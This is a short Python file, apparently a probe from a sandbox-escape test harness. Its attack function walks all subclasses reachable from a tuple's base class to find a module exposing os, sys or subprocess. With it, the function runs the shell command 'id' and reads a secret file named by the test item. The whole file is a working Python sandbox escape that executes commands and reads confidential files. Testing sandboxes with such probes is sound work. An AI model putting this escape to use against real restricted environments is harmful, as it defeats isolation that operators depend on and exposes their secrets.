"""The classic way past missing builtins: from a tuple to every class there is, to the one that runs commands."""


def attack(sample, item):
    todo = [().__class__.__base__]
    while todo:
        for cls in type.__subclasses__(todo.pop()):
            if cls is type:
                continue
            todo.append(cls)
            names = getattr(getattr(cls, "__init__", None), "__globals__", {})
            for name in ("os", "sys", "subprocess"):
                module = names.get(name)
                os = getattr(module, "modules", {}).get("os") if name == "sys" else module
                try:
                    if "uid=" in os.popen("id").read():
                        return True
                except Exception:
                    pass
                try:
                    if "secret" in open(item["secret"]).read():
                        return True
                except Exception:
                    pass
    return False
